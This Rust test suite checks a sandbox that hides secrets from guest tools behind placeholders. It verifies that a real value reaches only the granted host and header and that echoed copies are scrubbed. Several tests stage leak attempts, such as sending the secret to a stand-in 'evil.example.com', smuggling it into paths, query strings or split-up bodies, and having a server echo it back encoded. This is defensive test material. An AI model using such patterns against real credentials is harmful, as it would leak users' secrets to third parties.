//! Secrets against a guest that would like to know one, and servers that repeat what they are told.

use std::net::IpAddr;
use std::sync::LazyLock;
use std::time::Duration;

use serde_json::{Value, json};
use stockade_sandbox::{Component, Config, Engine, Limits, Tool};
use stockade_workflow::{Fault, Grant, Kind};

use crate::common::{built, call};
use crate::server::{Piece, Server, ok};

const VALUE: &str = "sk_live_0123456789/+\"ab";

static ENGINE: LazyLock<Engine> = LazyLock::new(|| {
    let loopback: IpAddr = "127.0.0.1".parse().unwrap();
    // Leads here too, and is not the loopback's own.
    let lan: IpAddr = "0.0.0.0".parse().unwrap();
    let hosts = [("pay.example.com", loopback), ("evil.example.com", loopback), ("lan.example.com", lan)]
        .map(|(name, address)| (name.to_owned(), vec![address]));
    let secrets = [("key".to_owned(), VALUE.to_owned()), ("another".to_owned(), "another-value".to_owned())];
    let secrets = secrets.into_iter().collect();
    Engine::new(Config { concurrency: 8, hosts: hosts.into_iter().collect(), secrets, ..Config::default() }).unwrap()
});

/// Kept, for a component that is dropped is compiled again.
static FETCH: LazyLock<Component> = LazyLock::new(|| ENGINE.load(&built("fetch")).unwrap());

fn fetch(grants: &[Grant]) -> Tool {
    Tool::new(&ENGINE, "test", FETCH.clone(), grants).unwrap()
}

/// A tool that may send to both hosts, and the secret to one of them.
fn trusted(server: &Server) -> Tool {
    let to = |host: &str| Grant::http(format!("POST http://{host}:{}/", server.port)).addresses(["127.0.0.1"]);
    let secrets = [("key", "Authorization"), ("another", "x-other")]
        .map(|(name, header)| Grant::secret(name, "pay.example.com", header));
    fetch(&[&[to("pay.example.com"), to("evil.example.com")], &secrets[..]].concat())
}

/// A request with the secret's placeholder where it says `{secret}`.
fn request(server: &Server, host: &str, path: &str, headers: Value, body: Value) -> Value {
    json!({
        "method": "POST", "scheme": "http", "authority": format!("{host}:{}", server.port), "path": path,
        "headers": headers, "body": body, "trailers": [], "timeout": null, "secret": "key"
    })
}

async fn send(tool: &Tool, request: Value) -> Result<Value, Fault> {
    let limits = Limits::default().deadline(Duration::from_secs(120));
    call(tool, "send", json!({"request": request}), limits).await.result
}

async fn placeholder(tool: &Tool, name: &str) -> Result<Value, Fault> {
    call(tool, "placeholder", json!({"name": name}), Limits::default()).await.result
}

#[tokio::test]
async fn the_value_is_on_the_wire_and_the_placeholder_in_the_guest() {
    let server = Server::saying(&ok("")).await;
    let tool = trusted(&server);
    let text = placeholder(&tool, "key").await.unwrap();
    assert!(text.as_str().unwrap().starts_with("stockade-secret-"), "{text}");
    assert_eq!(placeholder(&tool, "key").await.unwrap(), text, "the same call sees the same");
    let headers = json!([["authorization", "Bearer {secret}"]]);
    send(&tool, request(&server, "pay.example.com", "/a", headers, json!(["amount=1"]))).await.unwrap();
    let got = &server.got()[0];
    assert!(got.contains(&format!("authorization: Bearer {VALUE}\r\n")) && !got.contains("stockade-secret"), "{got}");
    assert!(got.contains("accept-encoding: identity\r\n"), "{got}");
}

#[tokio::test]
async fn a_secret_that_is_not_granted_is_denied() {
    let server = Server::saying(&ok("")).await;
    for (tool, name) in [(fetch(&[]), "key"), (trusted(&server), "other")] {
        let fault = placeholder(&tool, name).await.unwrap_err();
        assert_eq!(
            fault.message,
            format!(
                "tool \"test\" asked for secret \"{name}\", which is not granted; in stockade.toml, under \
                 [tool.test.grants], secrets = [{{ name = \"{name}\", host = \"HOST\", header = \"authorization\" }}] \
                 would allow it"
            )
        );
        assert_eq!(fault.kind, Kind::Denied);
    }
}

#[tokio::test]
async fn a_secret_without_a_value_is_found_out_when_the_tool_is_linked() {
    for (grant, why) in [
        (
            Grant::secret("nobodys", "example.com", "authorization"),
            "secret \"nobodys\" to tool \"test\": no value is stored",
        ),
        (Grant::secret("key", "example.com:x", "authorization"), "port \"x\""),
        (Grant::secret("key", "0x7f.1", "authorization"), "write \"127.0.0.1\""),
        (Grant::secret("key", "example.com", "a b"), "\"a b\" is not a header name"),
    ] {
        let fault = Tool::new(&ENGINE, "test", FETCH.clone(), &[grant]).unwrap_err();
        assert!(fault.message.contains(why) && fault.kind == Kind::Invalid, "{fault}");
    }
}

/// Cases 39 and 45. The value goes to the granted host, in the granted header, and nowhere else.
#[tokio::test]
async fn a_placeholder_anywhere_else_is_denied() {
    let server = Server::saying(&ok("")).await;
    let tool = trusted(&server);
    let (pay, evil) = ("pay.example.com", "evil.example.com");
    let bearer = json!([["authorization", "Bearer {secret}"]]);
    for (host, path, headers, body, expected) in [
        (
            evil,
            "/a",
            &bearer,
            json!([]),
            "secret \"key\" in header \"authorization\" to evil.example.com, which is not granted",
        ),
        (pay, "/a", &json!([["x-key", "{secret}"]]), json!([]), "header = \"x-key\" }] would allow it"),
        (
            pay,
            "/{secret}",
            &bearer,
            json!([]),
            "secret \"key\" in the path or query of a request, which no grant allows",
        ),
        (pay, "/a?key={secret}", &bearer, json!([]), "in the path or query"),
        (pay, "/a", &bearer, json!(["key={secret}"]), "a secret in the body of a request, which no grant allows"),
    ] {
        let fault = send(&tool, request(&server, host, path, headers.clone(), body)).await.unwrap_err();
        assert!(fault.kind == Kind::Denied && fault.message.contains(expected), "{fault}");
        assert!(!fault.message.contains(VALUE));
    }
    // What reached the server is at most the beginning of a body that never ended.
    assert!(server.got().iter().all(|got| !got.ends_with("0\r\n\r\n") && !got.contains("sk_live") || got.is_empty()));
}

/// A tool that may send to a host over http and over https must not choose the one that others can read.
#[tokio::test]
async fn no_secret_goes_over_a_network_in_clear() {
    let server = Server::saying(&ok("")).await;
    let to = Grant::http(format!("POST http://lan.example.com:{}/", server.port)).addresses(["0.0.0.0"]);
    let tool = fetch(&[to, Grant::secret("key", "lan.example.com", "authorization")]);
    let send = |headers| send(&tool, request(&server, "lan.example.com", "/a", headers, json!([])));
    let fault = send(json!([["authorization", "Bearer {secret}"]])).await.unwrap_err();
    let expected = format!(
        "tool \"test\" asked for a secret in a request over http to lan.example.com:{}, which no grant allows: anybody on \
         the way could read it; over https it may go there",
        server.port
    );
    assert!(fault.kind == Kind::Denied && fault.message.starts_with(&expected), "{fault}");
    assert_eq!(server.got().len(), 0);
    send(json!([])).await.unwrap();
}

/// A body that is written a letter at a time is looked through all the same.
#[tokio::test]
async fn a_placeholder_in_pieces_is_found() {
    let server = Server::saying(&ok("")).await;
    let tool = trusted(&server);
    let text = placeholder(&tool, "key").await.unwrap();
    let letters: Vec<_> = text.as_str().unwrap().chars().map(String::from).collect();
    let fault = send(&tool, request(&server, "pay.example.com", "/a", json!([]), json!(letters))).await.unwrap_err();
    assert!(fault.message.contains("a secret in the body"), "{fault}");
    // A beginning of it is text like any other.
    send(&tool, request(&server, "pay.example.com", "/a", json!([]), json!(letters[..20]))).await.unwrap();
    assert!(server.got()[1].contains("s\r\n1\r\nt\r\n") || server.got()[1].contains("stockade"), "{:?}", server.got());
}

/// Case 45. A server that repeats what it got, in headers and body, plain and encoded, cut where it likes.
#[tokio::test]
async fn echoes_are_scrubbed() {
    use base64::Engine as _;
    let server = Server::new(|request| {
        let encoded = base64::engine::general_purpose::STANDARD.encode(format!("user:{VALUE}"));
        let body = format!("{request}|{encoded}|{}|{}", "sk_live_0123456789%2F%2B%22ab", json!(VALUE));
        let head = format!(
            "HTTP/1.1 200 OK\r\nx-echo: Bearer {VALUE}\r\nx-another-value: 1\r\ncontent-length: {}\r\n\r\n",
            body.len()
        );
        let letters = body.into_bytes().into_iter().map(|byte| Piece::Bytes(vec![byte]));
        std::iter::once(Piece::Bytes(head.into_bytes())).chain(letters).collect()
    })
    .await;
    let tool = trusted(&server);
    let text = placeholder(&tool, "key").await.unwrap();
    let text = text.as_str().unwrap();
    let headers = json!([["authorization", "Bearer {secret}"]]);
    let answer = send(&tool, request(&server, "pay.example.com", "/a", headers, json!([]))).await.unwrap();
    assert_eq!(answer["headers"][0], json!(["x-echo", format!("Bearer {text}")]));
    let body = answer["body"].as_str().unwrap();
    assert!(body.contains(&format!("authorization: Bearer {text}\r\n")), "{body}");
    assert!(!answer.to_string().contains("sk_live") && !answer.to_string().contains("0123456789"), "{answer}");
    assert_eq!(body.matches(text).count(), 4, "{body}");
    // Neither the length, which would be wrong, nor a header that is named after a secret.
    assert_eq!(answer["headers"].as_array().unwrap().len(), 1);
}

/// What cannot be looked through is refused, for a secret could be in it.
#[tokio::test]
async fn an_answer_that_is_compressed_is_refused() {
    let server = Server::saying("HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: 2\r\n\r\nhi").await;
    let request = request(&server, "pay.example.com", "/a", json!([["accept-encoding", "gzip"]]), json!([]));
    let fault = send(&trusted(&server), request).await.unwrap_err();
    assert_eq!(fault.message, "ErrorCode::HttpResponseContentCoding(None)");
    assert!(server.got()[0].contains("accept-encoding: identity\r\n") && !server.got()[0].contains("gzip"));
}

/// The host looks through what only comes from where the value goes, or any server could tell by it what the value is.
#[tokio::test]
async fn the_answers_of_others_are_left_alone() {
    let server = Server::saying(&ok(VALUE)).await;
    let tool = trusted(&server);
    let answer = |host| send(&tool, request(&server, host, "/a", json!([]), json!([])));
    assert_eq!(answer("evil.example.com").await.unwrap()["body"], VALUE);
    assert!(answer("pay.example.com").await.unwrap()["body"].as_str().unwrap().starts_with("stockade-secret-"));
}

#[tokio::test]
async fn a_part_of_an_answer_is_not_asked_for_where_a_secret_goes() {
    let server = Server::saying(&ok("")).await;
    let tool = trusted(&server);
    let ranged = |host| send(&tool, request(&server, host, "/a", json!([["range", "bytes=1-"]]), json!([])));
    let fault = ranged("pay.example.com").await.unwrap_err();
    assert!(fault.kind == Kind::Denied && fault.message.contains("header \"range\""), "{fault}");
    ranged("evil.example.com").await.unwrap();
}

#[tokio::test]
async fn a_denial_is_not_as_long_as_the_name() {
    let fault = placeholder(&fetch(&[]), &"\u{1}".repeat(10_000)).await.unwrap_err();
    assert!(fault.kind == Kind::Denied && fault.message.len() < 3_000, "{}", fault.message.len());
}

#[test]
fn nothing_prints_a_value() {
    let config = format!("{:?}", *ENGINE);
    assert!(config.contains("\"key\"") && !config.contains("sk_live"), "{config}");
}
